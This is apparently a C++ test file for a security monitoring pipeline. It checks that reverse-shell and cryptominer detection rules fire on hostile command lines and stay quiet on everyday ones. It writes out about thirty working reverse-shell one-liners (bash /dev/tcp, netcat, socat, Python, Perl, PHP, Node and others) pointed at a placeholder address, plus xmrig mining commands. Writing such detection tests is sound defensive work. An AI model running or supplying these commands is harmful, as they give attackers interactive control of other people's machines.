// Reverse shells and miners: what must be seen, and what must not.
#include <gtest/gtest.h>

#include "pipeline_harness.h"

namespace picket::pipeline {
namespace {

/// Those of this file: other rules have tests of their own.
std::vector<std::string> alert_types(const TestEvent& event) {
  EngineHarness pipeline;
  pipeline.feed({event});
  std::vector<std::string> out;
  for (const AlertChange& alert : pipeline.alerts()) {
    const bool ours = alert.alert_type == "IoT_ReverseShell" || alert.alert_type == "IoT_CryptoMiner";
    if (ours) out.push_back(alert.alert_type);
  }
  return out;
}

TEST(ReverseShell, CommandLinesThatMakeOne) {
  const std::vector<std::pair<std::string, std::string>> commands = {
      {"/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
      {"/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"},
      {"/bin/sh", "sh -i >& /dev/udp/203.0.113.9/53 0>&1"},
      {"/bin/sh", "sh -c sh </dev/tcp/203.0.113.9/4444 >&0 2>&0"},
      {"/bin/bash", "bash -c exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done"},
      {"/bin/bash", "bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196"},
      {"/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"},
      {"/usr/bin/nc", "nc 203.0.113.9 4444 -e /bin/bash"},
      {"/usr/bin/nc.traditional", "nc.traditional -ne /bin/sh 203.0.113.9 4444"},
      {"/usr/bin/nc", "nc -c sh 203.0.113.9 4444"},
      {"/usr/bin/ncat", "ncat --ssl 203.0.113.9 4444 --exec /bin/bash"},
      {"/bin/busybox", "busybox nc 203.0.113.9 4444 -e sh"},
      {"/bin/busybox", "/bin/busybox nc 203.0.113.9 4444 -e /bin/ash"},
      {"/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"},
      {"/bin/sh", "sh -c mknod /tmp/p p; nc 203.0.113.9 4444 0</tmp/p | /bin/sh 1>/tmp/p"},
      {"/bin/sh",
       "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s"},
      {"/bin/sh", "sh -c telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445"},
      {"/usr/bin/socat", "socat tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr"},
      {"/usr/bin/socat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444"},
      {"/usr/bin/python3",
       "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
       "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"},
      {"/usr/bin/python2.7", "python -c import os,pty,socket;s=socket.socket();s.connect(('h',1));pty.spawn('sh')"},
      {"/usr/bin/perl",
       "perl -e use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,0);"
       "open(STDIN,\">&S\");exec(\"/bin/sh -i\");"},
      {"/usr/bin/perl",
       "perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4444\");"
       "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"},
      {"/usr/bin/ruby",
       "ruby -rsocket -e f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)"},
      {"/usr/bin/php", "php -r $sock=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"},
      {"/usr/bin/lua5.3", "lua5.3 -e require('socket');t=socket.tcp();t:connect('h','1');os.execute('/bin/sh -i <&3')"},
      {"/usr/bin/gawk", "gawk BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while(1) { s |& getline c; c |& getline }}"},
      {"/usr/bin/node",
       "node -e (function(){var n=require(\"net\"),c=require(\"child_process\"),s=c.spawn(\"/bin/sh\",[]);"
       "var k=new n.Socket();k.connect(4444,\"203.0.113.9\")})()"},
  };
  for (const auto& [executable, command] : commands) {
    EXPECT_EQ(alert_types(process(executable, command)), std::vector<std::string>{"IoT_ReverseShell"}) << command;
  }
}

TEST(ReverseShell, EverydayCommandsAreNone) {
  const std::vector<std::pair<std::string, std::string>> commands = {
      {"/bin/bash", "bash -c echo > /dev/tcp/127.0.0.1/5432"},
      {"/bin/bash", "bash -c </dev/tcp/db/5432"},
      {"/usr/bin/timeout", "timeout 1 bash -c cat < /dev/null > /dev/tcp/example.com/443"},
      {"/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET /health/ready HTTP/1.1' >&3;cat <&3"},
      {"/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/80; while read -r line <&3; do echo \"$line\"; done"},
      {"/usr/bin/nc", "nc -z -w 2 db 5432"},
      {"/usr/bin/nc", "nc -l 8080"},
      {"/usr/bin/nc", "nc -ec2-54-1-2-3.example.com 22"},
      {"/usr/bin/ssh", "ssh -o ProxyCommand=nc %h %p host"},
      {"/bin/grep", "grep -rn bash -i >& /dev/tcp/ /etc"},
      {"/usr/bin/vim", "vim /dev/tcp/notes bash -i"},
      {"/usr/bin/git", "git commit -m nc -e /bin/sh is found now"},
      {"/usr/bin/python3", "python3 -m http.server 8000"},
      {"/usr/bin/python3", "python3 -c import socket; print(socket.gethostname())"},
      {"/usr/bin/perl", "perl -e use Socket; print inet_ntoa(inet_aton('localhost'))"},
      {"/usr/bin/socat", "socat TCP-LISTEN:80,fork TCP:10.0.0.1:80"},
      {"/usr/bin/socat", "socat - EXEC:/usr/bin/ntpq"},
      {"/bin/bash", "bash -i"},
      {"/bin/sh", "sh -c mkfifo /run/pipe && cat /run/pipe | logger"},
      {"/usr/bin/telnet", "telnet 10.0.0.1 80"},
      {"/usr/bin/awk", "awk {print $1} /var/log/syslog"},
      {"/usr/bin/node", "node server.js --connect(4444)"},
      {"/usr/bin/openssl", "openssl s_client -connect example.com:443"},
      {"/usr/bin/php", "php -r echo 1;"},
  };
  for (const auto& [executable, command] : commands) {
    EXPECT_TRUE(alert_types(process(executable, command)).empty()) << command;
  }
}

TEST(ReverseShell, ShellOnANetworkConnection) {
  EngineHarness pipeline;
  pipeline.feed({process("/bin/dash", "sh",
                         {{"StdinSocket", "203.0.113.9:4444"},
                          {"StdoutSocket", "203.0.113.9:4444"},
                          {"ParentExecutable", "/opt/app/server"}})});
  ASSERT_EQ(pipeline.alerts().size(), 1u);
  const AlertChange alert = pipeline.alerts()[0];
  EXPECT_EQ(alert.alert_type, "IoT_ReverseShell");
  EXPECT_EQ(alert.severity, "High");
  const auto has = [&](const std::pair<std::string, std::string>& property) {
    return std::ranges::find(alert.properties, property) != alert.properties.end();
  };
  EXPECT_TRUE(has({"Remote Address", "203.0.113.9"}));
  EXPECT_TRUE(has({"Remote Port", "4444"}));
  EXPECT_TRUE(has({"CommandLine", "sh"}));
}

TEST(ReverseShell, DescriptorsDecide) {
  const auto shell = [](const std::string& program, const std::string& in, const std::string& out,
                        const std::string& parent, const std::string& command = "sh") {
    return !alert_types(
                process(program, command, {{"StdinSocket", in}, {"StdoutSocket", out}, {"ParentExecutable", parent}}))
                .empty();
  };
  EXPECT_TRUE(shell("/bin/bash", "[2001:db8::9]:4444", "[2001:db8::9]:4444", "/usr/bin/python3"));
  EXPECT_TRUE(shell("/usr/bin/python3.11", "203.0.113.9:1", "203.0.113.9:1", "/sbin/init", "python3"));
  EXPECT_TRUE(shell("/bin/sh", "socket:[77]", "socket:[77]", "/usr/bin/socat")) << "one socket both ways";
  EXPECT_TRUE(shell("/bin/sh", "socket:[77]", "socket:[78]", "/usr/bin/app", "sh -i"));
  EXPECT_FALSE(shell("/bin/sh", "socket:[77]", "socket:[78]", "/usr/bin/node")) << "pipes of a child process";
  EXPECT_FALSE(shell("/bin/bash", "socket:[77]", "socket:[77]", "/usr/sbin/sshd")) << "ssh host command";
  EXPECT_FALSE(shell("/bin/bash", "socket:[77]", "socket:[77]", "/usr/lib/openssh/sshd-session"));
  EXPECT_FALSE(shell("/bin/bash", "203.0.113.9:4444", "", "/opt/app")) << "only one way";
  EXPECT_FALSE(shell("/usr/sbin/nginx", "203.0.113.9:4444", "203.0.113.9:4444", "/sbin/init")) << "no interpreter";
}

TEST(ReverseShell, ShellStartedByARecognisedCommandIsTheSameAlert) {
  EngineHarness pipeline;
  pipeline.feed({process("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                         {{"ProcessId", "100"}, {"ParentProcessId", "1"}}, noon(0))});
  pipeline.feed({process("/bin/bash", "bash -i",
                         {{"ProcessId", "101"},
                          {"ParentProcessId", "100"},
                          {"StdinSocket", "203.0.113.9:4444"},
                          {"StdoutSocket", "203.0.113.9:4444"}},
                         noon(1))});
  ASSERT_EQ(pipeline.alerts().size(), 1u);
  EXPECT_EQ(pipeline.alerts()[0].count, 2u);
  pipeline.feed({process("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1",
                         {{"ProcessId", "200"}, {"ParentProcessId", "1"}}, noon(2))});
  EXPECT_EQ(pipeline.alerts().size(), 2u);
}

TEST(CryptoMiner, CommandLinesOfMiners) {
  for (const std::string command :
       {"git clone https://github.com/pooler/cpuminer", "xmrig -o pool.supportxmr.com:443 -u wallet", "/tmp/.x/xmrig",
        "./minerd -a cryptonight -o stratum+tcp://pool:3333", "miner --url stratum+ssl://eu.pool.example:14444",
        "/tmp/a --donate-level 1 --cpu-max-threads-hint=75", "/tmp/a -o 203.0.113.9:3333 -u worker1 -p x",
        "wget https://example.com/xmrig-6.21.0-linux-x64.tar.gz", "sh -c echo minerd", "./t --algo=rx/0 --url h:1",
        "curl -s xmr.pool.minexmr.com:4444"}) {
    EXPECT_EQ(alert_types(process("/tmp/a", command)), std::vector<std::string>{"IoT_CryptoMiner"}) << command;
  }
  EXPECT_EQ(alert_types(process("/var/tmp/kdevtmpfsi", "")), std::vector<std::string>{"IoT_CryptoMiner"});
}

TEST(CryptoMiner, EverydayCommandsAreNone) {
  for (const std::string command :
       {"determiner --all", "python3 data_miner.py", "curl -o out http://host:3333/file", "ssh -o Port=4444 user@host",
        "tar xf gminerals.tar", "mysqld --port=3333", "node server.js --port 5555", "rsync -a src/ dst/",
        "examiner -a md5", "gpg --algo sha256", "apt-get install libxmrigid"}) {
    EXPECT_TRUE(alert_types(process("/usr/bin/tool", command)).empty()) << command;
  }
  EXPECT_TRUE(alert_types(process("/bin/grep", "grep -c xmrig /var/log/syslog")).empty());
  EXPECT_TRUE(alert_types(process("/usr/bin/pgrep", "pgrep xmrig")).empty());
}

TEST(ProcessAlerts, HaveTheirTechniquesAndExtendedProperties) {
  EngineHarness pipeline;
  pipeline.feed({process("/tmp/xmrig", "/tmp/xmrig -o pool:3333",
                         {{"UserName", "www-data"}, {"UserId", "33"}, {"ParentProcessId", "12"}, {"HitCount", "3"}})});
  ASSERT_EQ(pipeline.alerts().size(), 1u);
  const AlertChange alert = pipeline.alerts()[0];
  EXPECT_EQ(alert.techniques, std::vector<std::string>{"T1496"});
  EXPECT_EQ(alert.sub_techniques, std::vector<std::string>{"T1496.001"});
  EXPECT_EQ(alert.count, 3u);
  const NamedTexts expected{{"DeviceId", "device-1"},
                            {"CommandLine", "/tmp/xmrig -o pool:3333"},
                            {"Executable", "/tmp/xmrig"},
                            {"User Name", "www-data"},
                            {"UserId", "33"},
                            {"ProcessId", ""},
                            {"ParentProcessId", "12"},
                            {"ParentExecutable", ""},
                            {"Reason", "Crypto Currency Miner"},
                            {"Rule", "Crypto Currency Miner"},
                            {"rule.id", "b5bf3f97-35b0-57ca-8ea0-bca715bb8397"},
                            {"rule.author", "Picket"},
                            {"rule.license", "Apache-2.0"}};
  EXPECT_EQ(alert.properties, expected);
}

}  // namespace
}  // namespace picket::pipeline
